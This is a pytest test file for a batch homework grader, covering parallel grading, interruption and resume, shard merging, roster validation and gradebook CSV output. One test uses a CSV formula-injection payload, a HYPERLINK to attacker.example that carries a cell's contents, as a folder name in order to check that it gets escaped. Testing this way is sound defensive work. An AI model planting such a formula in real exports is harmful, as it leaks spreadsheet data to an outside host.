"""Batch grading: a generated cohort graded in parallel matches grading each one alone; an
interrupted batch (a real SIGINT, as Ctrl-C sends) records no grade and resumes; two shards
merged give the same gradebook; the gradebook, the feedback and the cohort report are built
from the one results model, `grader.results.report.Report`.

The cohort (10 students) mixes full solutions, partial and broken work. Identical submissions
are still graded separately by the batch; only the "graded alone" reference is computed once per
distinct variant. Stage 6 runs its static checks only (`--engine none`): CI time.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from grader import options, uploads
from grader.batch import cohort, runner
from grader.batch import gradebook as book
from grader.batch import main as batch
from grader.results import render
from grader.results.atomic import write_atomic
from grader.results.report import (
    FAILED,
    PASSED,
    SKIPPED,
    CheckResult,
    Report,
    RunInfo,
    max_points,
    parse_check_id,
)
from tests.support import ROOT, data_env, two_at_a_time, where_no_sandbox

SOLUTIONS, HOMEWORK = ROOT / "solutions", ROOT / "homework"
IGNORE = shutil.ignore_patterns("*.bin", ".venv", "__pycache__", ".server.log")
GRADE_ARGS = ["--spec", "credit", "--stage", "all", "--engine", "none"]
BATCH_ARGS = where_no_sandbox(["--spec", "credit", "--engine", "none"], Path("."))


# -- fast: the pieces ---------------------------------------------------------------------------
def fake_report(checks: dict[str, tuple[str, float, str]], name: str = "x") -> Report:
    """A report with one check per id: {id: (status, points, output)}; x.9 checks are hidden."""
    return Report(
        submission=f"/home/teacher/cohort/{name}",
        spec="credit",
        stage=7,
        seed=987654321,
        isolation="test",
        checks=[
            CheckResult(
                cid,
                f"check {cid}",
                parse_check_id(cid)[0],
                points,
                status,
                output,
                hidden=cid.endswith(".9"),
            )
            for cid, (status, points, output) in checks.items()
        ],
    )


def test_parse_check_id_and_shard() -> None:
    assert parse_check_id("3.50") == (3, 50) and parse_check_id("1.5") < parse_check_id("1.50")
    for bad in ("3", "a.b", "3.2.1", "0.1x"):
        with pytest.raises(ValueError, match=r"STAGE\.N"):
            parse_check_id(bad)
    assert runner.parse_shard("2/4") == (2, 4)
    for bad in ("0/2", "3/2", "1", "a/b"):
        with pytest.raises(Exception, match="shard"):
            runner.parse_shard(bad)


def test_shards_partition_the_cohort(tmp_path: Path) -> None:
    names = [tmp_path / f"s{i:02d}" for i in range(11)]
    parts = [runner.shard_of(names, (i, 3)) for i in (1, 2, 3)]
    assert sorted(p for part in parts for p in part) == names
    assert max(map(len, parts)) - min(map(len, parts)) <= 1


def test_feedback_hides_hidden_details_and_the_seed() -> None:
    path = "/home/teacher/cohort/x/predict.py"
    alice = fake_report(
        {
            "1.1": (PASSED, 2, ""),
            "1.9": (FAILED, 1, "secret record"),
            "3.2": (FAILED, 1, f"no /ping in {path}"),
        }
    )
    assert alice.stage_scores() == {1: (2.0, 3.0), 3: (0.0, 1.0)}
    text = render.feedback(alice, "alice", runner.redactor(alice))
    assert "Score: 2 / 4" in text and "no /ping in ./predict.py" in text
    assert "secret record" not in text, "hidden checks' details stay hidden"
    assert "987654321" not in text and "/home/teacher" not in text


def test_gradescope_names_do_not_repeat_their_number_and_hold_no_seed() -> None:
    report = fake_report({"1.1": (PASSED, 2, ""), "6.9": (SKIPPED, 2, "no engine")})
    data = render.gradescope(report, runner.redactor(report))
    assert [(t["number"], t["name"]) for t in data["tests"]] == [
        ("1.1", "check 1.1"),
        ("6.9", "check 6.9"),
    ]
    assert "987654321" not in json.dumps(data) and "seed" not in data["extra_data"]
    assert data["extra_data"]["submission"] == "."


def test_gradebook_max_is_the_runs_and_a_grader_error_adds_no_column() -> None:
    alice = fake_report({"1.1": (PASSED, 2, ""), "3.2": (FAILED, 1, "no")})
    bob = fake_report({"1.1": (FAILED, 2, "train.py crashed"), "3.2": (SKIPPED, 1, "")})
    carol = Report.failure("/x/carol", "credit", "the grader was stopped after 1800 s")
    header, rows = book.gradebook_rows({"bob": bob, "alice": alice, "carol": carol}, [1, 3])
    assert header == ["student_id", "folder", "1 train", "3 fastapi", "total", "max", "status"]
    assert rows == [
        ["alice", "alice", "2", "0", "2", "3", "graded"],
        ["bob", "bob", "0", "0", "0", "3", "graded"],
        ["carol", "carol", "0", "0", "0", "3", "grader error"],
    ]


def test_gradebook_roster_bom_escaping_and_permissions(tmp_path: Path) -> None:
    roster_csv = tmp_path / "roster.csv"
    roster_csv.write_text(
        "\ufefffolder,student_id,email\nhéctor,s-001,hector@example.org\nabsent,s-002,a@b.c\n",
        encoding="utf-8",
    )
    roster = book.Roster.read(roster_csv)
    evil = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
    reports = {"héctor": fake_report({"1.1": (PASSED, 2, "")}), evil: fake_report({})}
    old = os.umask(0o022)
    try:
        path = book.write_gradebook(tmp_path, reports, [1], roster)
    finally:
        os.umask(old)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0] == ["student_id", "folder", "email", "1 train", "total", "max", "status"]
    by_folder = {row[1]: row for row in rows[1:]}
    assert by_folder["héctor"][:3] == ["s-001", "héctor", "hector@example.org"]
    assert by_folder["absent"][-1] == "no submission"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert by_folder["'" + evil][-1] == "graded (not in the roster)"
    assert stat.S_IMODE(path.stat().st_mode) == 0o644, "the instructor's group reads it"
    (tmp_path / "bad.csv").write_text("name,email\n")
    with pytest.raises(ValueError, match="folder and student_id"):
        book.Roster.read(tmp_path / "bad.csv")


def test_roster_rows_that_are_malformed_or_repeated_are_reported(tmp_path: Path) -> None:
    """Every bad row named with its line, nothing silently cut or dropped."""
    roster = tmp_path / "roster.csv"
    roster.write_text(
        "folder,student_id,name\n"
        "alice,s-1,Alice\n"
        "bob,s-2,Smith, Bob\n"  # an unquoted comma: one cell more than the header
        ",s-3,No Folder\n"
        "alice,s-4,Alice again\n"
        "carol,s-1,Carol\n"  # student_id again
        "dan,,Dan\n"
        ",,\n"  # blank: not a row
        '"eve, the second",s-5,"Eve, Jr."\n'  # quoted commas are fine
    )
    with pytest.raises(ValueError) as problem:
        book.Roster.read(roster)
    text = str(problem.value)
    assert "5 roster row(s) to fix" in text, text
    for said in ("line 3 has more than 3 cells", "line 4: no folder",
                 "line 5: folder 'alice' again (line 2)", "line 6: student_id 's-1' again",
                 "line 7: no student_id"):  # fmt: skip
        assert said in text, (said, text)
    roster.write_text('folder,student_id\nalice,s-1\n"eve, the second",s-5\n,,\n')
    assert sorted(book.Roster.read(roster).rows) == ["alice", "eve, the second"]


def test_the_runs_maximum_is_the_references_whatever_else_the_cohort_holds() -> None:
    """An empty upload (every check failed in one line) and a blank template (answers blank:
    failed) beside the reference: one maximum, the reference's score; what the run did not
    grade (no engine: skipped for everyone) counts for nobody."""
    checks = {"1.1": 2, "1.50": 1, "6.9": 2, "6.50": 1}

    def student(status: dict[str, str], output: str = "") -> Report:
        return fake_report({cid: (status.get(cid, PASSED), p, output) for cid, p in checks.items()})

    skipped = {"6.9": SKIPPED, "6.50": SKIPPED}
    reference = student(skipped)
    empty = student({"1.1": FAILED, "1.50": FAILED, **skipped}, "not graded: the upload is empty")
    empty.verdict = "the upload is empty: it holds none of the files of the homework"
    blank = student({"1.50": FAILED, **skipped}, "[train] auc in answers.toml is not answered")
    reports = {"empty": empty, "blank": blank, "reference": reference}
    total, _ = max_points(reports.values())
    assert total == reference.score == reference.max_score == 3
    assert {r.max_score for r in reports.values()} == {3}
    _, rows = book.gradebook_rows(reports, [1, 6])
    assert {row[-2] for row in rows} == {"3"} and rows[-1][-3] == "3"


def test_cohort_report_lists_verdicts_and_counts_causes_only(tmp_path: Path) -> None:
    crash = fake_report({
        "3.1": (FAILED, 2, "`uvicorn predict:app --port 9696` exited with code 1"),
        "3.2": (FAILED, 1, "not checked because 3.1 failed"),
        "4.1": (FAILED, 1, "not checked because 3.1 failed"),
    })  # fmt: skip
    churn = fake_report({"1.1": (FAILED, 2, "train.py did not finish")})
    churn.verdict = "this looks like the churn service of the lessons, not the homework"
    no_engine = fake_report({"3.1": (PASSED, 2, ""), "6.9": (SKIPPED, 2, "no engine")})
    engine = fake_report({"3.1": (PASSED, 2, ""), "6.9": (PASSED, 2, "")})
    reports = {"crash": crash, "churn": churn, "odd": no_engine, "ok": engine}
    top = cohort.failures(reports)
    assert [(name.split()[0], n) for name, _, n in top] == [("3.1", 1), ("1.1", 1)], top
    assert not any("not checked because" in message for _, message, _ in top)
    rows = dict(cohort.look_at(reports))
    assert rows["churn"].startswith("this looks like the churn service")
    assert "6.9 not graded for this student, but for others" in rows["odd"]
    text = render.feedback(crash, "crash", runner.redactor(crash))
    assert "- 3.2, 4.1: not checked because 3.1 failed" in text
    assert text.count("not checked because") == 1 and "### 3.2" not in text


def test_cohort_report_names_the_run_and_shows_every_check(tmp_path: Path) -> None:
    everyone = {
        f"s{i}": fake_report(
            {
                "1.1": (PASSED if i % 2 else FAILED, 2, "train.py crashed"),
                "2.1": (PASSED, 1, ""),
                "2.2": (FAILED, 1, "never passes"),
            }
        )
        for i in range(6)
    }
    everyone["s0"].notes = ["Graded the folder credit-card-hw/ of your upload."]
    run = RunInfo("20261128-120000-abcdef", "2026-11-28 12:00 UTC", "credit", engine="podman",
                  seeded=True)  # fmt: skip
    text = cohort.write_report(tmp_path, everyone, run).read_text()
    for png in ("scores.png", "pass-rates.png", "failures.png"):
        assert (tmp_path / "charts" / png).stat().st_size > 1000
        assert f"charts/{png}" in text
    for fact in ("credit spec", "engine podman", "2026-11-28 12:00 UTC", "20261128-120000-abcdef"):
        assert fact in text
    assert "987654321" not in text
    assert "| 1.1 check 1.1 | 50 % | 6 |" in text and "| 2.2 check 2.2 | 0 % | 6 |" in text
    assert "train.py crashed | 3 |" in text
    assert "- s0: Graded the folder credit-card-hw/ of your upload." in text


def test_results_are_written_atomically(tmp_path: Path) -> None:
    target = tmp_path / "students" / "x" / "results.json"
    write_atomic(target, "{}")
    write_atomic(target, '{"score": 1}')
    assert json.loads(target.read_text()) == {"score": 1}
    assert [p.name for p in target.parent.iterdir()] == ["results.json"]


def test_one_rule_finds_the_submission_in_an_upload(tmp_path: Path) -> None:
    plain = tmp_path / "plain"
    (plain / "old").mkdir(parents=True)
    (plain / "train.py").write_text("")
    (plain / "old" / "train.py").write_text("")
    assert uploads.locate(plain) == uploads.Located(plain, ".")

    mac = tmp_path / "mac"
    (mac / "__MACOSX" / "credit-card-hw").mkdir(parents=True)
    (mac / "__MACOSX" / "credit-card-hw" / "train.py").write_text("")
    (mac / "credit-card-hw").mkdir()
    (mac / "credit-card-hw" / "train.py").write_text("")
    found = uploads.locate(mac)
    assert (found.root, found.relative) == (mac / "credit-card-hw", "credit-card-hw")
    assert "credit-card-hw/" in found.notes[0]

    nothing = tmp_path / "zip-of-a-folder"
    (nothing / "hw" / "inner").mkdir(parents=True)
    (nothing / "hw" / "inner" / "predict.py").write_text("")
    assert uploads.locate(nothing).relative == "hw/inner"
    (tmp_path / "empty").mkdir()
    assert uploads.locate(tmp_path / "empty").relative == "."


def test_grading_options_pass_through_batch() -> None:
    args = batch.build_parser().parse_args(
        ["subs", "--out", "o", "--start-seconds", "5", "--only", "3,4", "--seed", "9", "--docker"]
    )
    given = options.from_values(Path("x"), vars(args))
    forwarded = options.to_argv(given, "cli")
    # --docker is a rule the checks apply: the contracts' pytest plugin takes it too
    assert "--docker" in forwarded and "--docker" in options.to_argv(given, "pytest")
    assert forwarded[forwarded.index("--start-seconds") + 1] == "5.0"
    assert args.spec_name == "credit", "a cohort is graded with the homework's spec by default"
    from grader.cli import parser

    cli = parser().parse_args(["x", *forwarded])
    grading = options.from_values(Path("x"), vars(cli))
    assert (grading.start_seconds, grading.only, grading.seed) == (5.0, frozenset({3, 4}), 9)
    assert grading.spec.name == "credit" and grading.stage == 7


# -- slow: Ctrl-C -------------------------------------------------------------------------------
def report_json(out: Path, name: str) -> Path:
    return out / "students" / name / "report.json"


@pytest.mark.slow
def test_ctrl_c_records_no_grade_and_resume_grades_the_rest(tmp_path: Path) -> None:
    """SIGINT to the batch's process group (what Ctrl-C in a terminal sends) while two students
    are being graded: they get no file at all, --resume grades them, the gradebook has the
    run's stage columns only."""
    cohort_dir, out = tmp_path / "cohort", tmp_path / "out"
    for name in ("a-fast", "b-fast", "c-slow", "d-slow"):
        (cohort_dir / name).mkdir(parents=True)
        code = "import time; time.sleep(120)\n" if "slow" in name else "raise SystemExit(1)\n"
        (cohort_dir / name / "train.py").write_text(code)
    cmd = [sys.executable, "-m", "grader.cli", "batch", str(cohort_dir), "--jobs", "2",
           "--out", str(out), "--only", "1", *BATCH_ARGS]  # fmt: skip
    env = {k: v for k, v in data_env().items() if k != "FORCE_COLOR"}
    proc = subprocess.Popen(cmd, cwd=ROOT, env=env, start_new_session=True, text=True,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)  # fmt: skip
    deadline = time.monotonic() + 300
    slow = [out / "students" / n for n in ("c-slow", "d-slow")]
    while not all(report_json(out, n).is_file() for n in ("a-fast", "b-fast")) or not all(
        any(folder.glob("grade-*")) for folder in slow
    ):
        assert proc.poll() is None, proc.communicate()
        assert time.monotonic() < deadline, "the batch made no progress"
        time.sleep(0.2)
    time.sleep(3)  # the slow students' train.py is running in the sandbox
    os.killpg(proc.pid, signal.SIGINT)
    _, stderr = proc.communicate(timeout=120)
    assert proc.returncode == 130, stderr
    for folder in slow:
        assert sorted(p.name for p in folder.iterdir()) == [], "an interrupted student was written"
    assert not (out / "gradebook.csv").exists()

    for folder in slow:  # now quick to grade
        (cohort_dir / folder.name / "train.py").write_text("raise SystemExit(1)\n")
    resumed = subprocess.run([*cmd, "--resume"], cwd=ROOT, env=env, capture_output=True,
                             text=True, timeout=300, check=False)  # fmt: skip
    assert resumed.returncode == 0, resumed.stderr
    assert "2 already graded, 2 left" in resumed.stderr
    with (out / "gradebook.csv").open(encoding="utf-8-sig") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["student_id", "folder", "1 train", "total", "max", "status"], rows[0]
    assert [row[1] for row in rows[1:]] == ["a-fast", "b-fast", "c-slow", "d-slow"]
    assert len({row[-2] for row in rows[1:]}) == 1, "max differs between students"
    assert all(row[-1] == "graded" for row in rows[1:]), rows


def grader_child(batch_pid: int) -> int | None:
    """The pid of the batch's `grader.cli` child, once it runs."""
    for proc in Path("/proc").iterdir():
        try:
            stat = (proc / "stat").read_text().rsplit(")", 1)[1].split()
            if int(stat[1]) == batch_pid and b"grader.cli" in (proc / "cmdline").read_bytes():
                return int(proc.name)
        except (OSError, ValueError, IndexError):
            continue
    return None


@pytest.mark.slow
@pytest.mark.parametrize("delay", [0.3, 5.0], ids=["while-starting", "while-grading"])
def test_sigint_that_reaches_the_child_first_records_no_grade(tmp_path: Path, delay: float) -> None:
    """SIGINT to the student's grader only (in a terminal it can reach the child before the
    batch): before, the student was written as 0/0 ("the grader was stopped after 0 s", or
    "every graded check passed" from a cut-short run) and --resume kept it."""
    cohort_dir, out = tmp_path / "cohort", tmp_path / "out"
    (cohort_dir / "slow").mkdir(parents=True)
    (cohort_dir / "slow" / "train.py").write_text("import time; time.sleep(120)\n")
    cmd = [sys.executable, "-m", "grader.cli", "batch", str(cohort_dir), "--jobs", "1",
           "--out", str(out), "--only", "1", *BATCH_ARGS]  # fmt: skip
    proc = subprocess.Popen(cmd, cwd=ROOT, env=data_env(), start_new_session=True, text=True,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)  # fmt: skip
    deadline = time.monotonic() + 120
    while (child := grader_child(proc.pid)) is None:
        assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()
        time.sleep(0.05)
    time.sleep(delay)
    os.kill(child, signal.SIGINT)
    _, stderr = proc.communicate(timeout=300)
    assert proc.returncode == 130, stderr
    assert "slow: interrupted, not recorded" in stderr
    assert sorted(p.name for p in (out / "students" / "slow").iterdir()) == []


@pytest.mark.slow
def test_nested_upload_is_graded_in_batch(tmp_path: Path) -> None:
    """A folder holding credit-card-hw/ plus __MACOSX/ scores what the same work scores alone,
    and the cohort report lists it."""
    cohort_dir, out = tmp_path / "cohort", tmp_path / "out"
    upload = cohort_dir / "zipped"
    shutil.copytree(SOLUTIONS, upload / "credit-card-hw", ignore=IGNORE)
    (upload / "__MACOSX" / "credit-card-hw").mkdir(parents=True)
    (upload / "__MACOSX" / "credit-card-hw" / "._train.py").write_bytes(b"\0\5\26\7")
    shutil.copytree(SOLUTIONS, cohort_dir / "plain", ignore=IGNORE)
    run = run_batch(str(cohort_dir), "--jobs", "2", "--out", str(out), "--only", "1,2",
                    *BATCH_ARGS)  # fmt: skip
    assert run.returncode == 0, run.stderr
    reports = runner.collect(out)
    assert reports["zipped"].score == reports["plain"].score > 0
    assert reports["zipped"].root == "credit-card-hw"
    feedback = (out / "students" / "zipped" / "feedback.md").read_text()
    assert "Graded the folder credit-card-hw/ of your upload" in feedback
    assert "- zipped: Graded the folder credit-card-hw/" in (out / "report.md").read_text()


# -- slow: a real cohort ------------------------------------------------------------------------
def variant(name: str, dest: Path) -> None:
    """One kind of submission, written to dest."""
    if name == "empty":
        dest.mkdir()
        (dest / "notes.txt").write_text("I will do it later\n")
        return
    if name == "starter":
        shutil.copytree(HOMEWORK, dest, ignore=IGNORE)
        return
    shutil.copytree(SOLUTIONS, dest, ignore=IGNORE)
    if name == "solution":
        return
    if name == "unanswered":  # all the work, the answers file left as the template
        shutil.copy(HOMEWORK / "answers.toml", dest / "answers.toml")
    elif name == "dict-service":  # stage 3 done, stage 4 not: no Pydantic model
        text = (dest / "predict.py").read_text()
        (dest / "predict.py").write_text(text.replace("client: Client", "client: dict").replace(
            "[client.model_dump()]", "[client]"))  # fmt: skip
    elif name == "broken-train":
        (dest / "train.py").write_text("raise RuntimeError('I forgot to finish this')\n")
    elif name == "train-only":  # stages 1-2 done, the rest is the starter
        for file in ("predict.py", "Dockerfile", "answers.toml"):
            shutil.copy(HOMEWORK / file, dest / file)
        for file in ("pyproject.toml", "uv.lock", ".python-version", ".dockerignore", "fly.toml"):
            (dest / file).unlink()
    else:
        raise ValueError(name)


COHORT = {
    "solution": 2, "unanswered": 1, "dict-service": 1,
    "starter": 2, "broken-train": 1, "empty": 2, "train-only": 1,
}  # fmt: skip


def make_cohort(root: Path) -> dict[str, str]:
    """Write the cohort; return {student: variant}."""
    students: dict[str, str] = {}
    root.mkdir()
    n = 0
    for kind, count in COHORT.items():
        for _ in range(count):
            n += 1
            name = f"student-{n:02d}-{kind}"
            variant(kind, root / name)
            students[name] = kind
    return students


def run_batch(*args: str, timeout: float = 1800) -> subprocess.CompletedProcess[str]:
    cmd = [sys.executable, "-m", "grader.cli", "batch", *args]
    return subprocess.run(cmd, cwd=ROOT, env=data_env(), capture_output=True, text=True,
                          timeout=timeout, check=False)  # fmt: skip


def gradebook(out: Path) -> list[list[str]]:
    with (out / "gradebook.csv").open(encoding="utf-8-sig") as f:
        return list(csv.reader(f))


def differences(out: Path, alone: dict[str, Report], students: dict[str, str]) -> str:
    """For a failed comparison: each check whose status differs from the graded-alone run."""
    lines = []
    reports = runner.collect(out)
    for name, kind in students.items():
        if name not in reports:
            continue
        got = {c.id: c for c in reports[name].checks}
        for c in alone[kind].checks:
            other = got.get(c.id)
            if other is None or other.status != c.status:
                output = other.output[:500] if other else ""
                lines.append(f"{name} {c.id}: alone {c.status}, batch "
                             f"{other.status if other else None}: {output}")  # fmt: skip
    return "\n".join(lines)


def finished(out: Path) -> int:
    return len(list((out / "students").glob("*/report.json")))


@pytest.fixture(scope="module")
def alone(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Report]:
    """Each distinct variant graded alone with the one-submission CLI (two at a time)."""
    root = tmp_path_factory.mktemp("alone")

    def one(kind: str) -> Report:
        variant(kind, root / kind)
        report = root / f"{kind}.json"
        subprocess.run([sys.executable, "-m", "grader.cli", str(root / kind), *GRADE_ARGS,
                        "--quiet", "--report", str(report)], cwd=ROOT, env=data_env(),
                       capture_output=True, timeout=900, check=False)  # fmt: skip
        return Report.from_json(json.loads(report.read_text()))

    return two_at_a_time(one, COHORT)


@pytest.mark.slow
def test_batch_matches_alone_and_resumes_after_a_kill(
    tmp_path: Path, alone: dict[str, Report]
) -> None:
    students = make_cohort(tmp_path / "cohort")
    assert len(students) >= 10
    expected_header, expected_rows = book.gradebook_rows(
        {name: alone[kind] for name, kind in students.items()}, range(1, 8)
    )
    out = tmp_path / "out"
    cmd = [sys.executable, "-m", "grader.cli", "batch", str(tmp_path / "cohort"), "--jobs", "2",
           "--out", str(out), *BATCH_ARGS]  # fmt: skip
    proc = subprocess.Popen(cmd, cwd=ROOT, env=data_env(), start_new_session=True,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
    deadline = time.monotonic() + 1200
    while finished(out) < len(students) // 2 and proc.poll() is None:
        assert time.monotonic() < deadline, "the batch made no progress"
        time.sleep(0.5)
    os.killpg(proc.pid, signal.SIGKILL)  # the batch and its graders, mid-flight
    proc.wait()
    done_before = finished(out)
    assert 0 < done_before < len(students), "the batch was not killed half-way"
    assert not (out / "gradebook.csv").exists()
    # Two machines each get a copy of the interrupted output and resume one shard of it.
    shard_outs = [tmp_path / "shard-1", tmp_path / "shard-2"]
    for shard_out in shard_outs:
        shutil.copytree(out, shard_out)

    resumed = run_batch(str(tmp_path / "cohort"), "--jobs", "2", "--out", str(out), "--resume",
                        *BATCH_ARGS)  # fmt: skip
    assert resumed.returncode == 0, resumed.stderr
    assert f"{done_before} already graded" in resumed.stderr
    rows = gradebook(out)
    assert rows[0] == expected_header
    assert rows[1:] == expected_rows, differences(out, alone, students)
    report = (out / "report.md").read_text()
    assert f"{len(students)} students" in report
    for name in students:
        assert (out / "students" / name / "feedback.md").is_file()
        results = json.loads((out / "students" / name / "results.json").read_text())
        assert results["score"] == alone[students[name]].score

    # The two shards, resumed apart and merged, give the same gradebook.
    for i, shard_out in enumerate(shard_outs, start=1):
        run = run_batch(str(tmp_path / "cohort"), "--jobs", "2", "--out", str(shard_out),
                        "--shard", f"{i}/2", "--resume", *BATCH_ARGS)  # fmt: skip
        assert run.returncode == 0, run.stderr
        assert ", 0 left;" not in run.stderr, "each shard should have had students left to grade"
    merged = tmp_path / "merged"
    run = run_batch("--merge", *map(str, shard_outs), "--out", str(merged))
    assert run.returncode == 0, run.stderr
    assert gradebook(merged) == rows, differences(merged, alone, students)
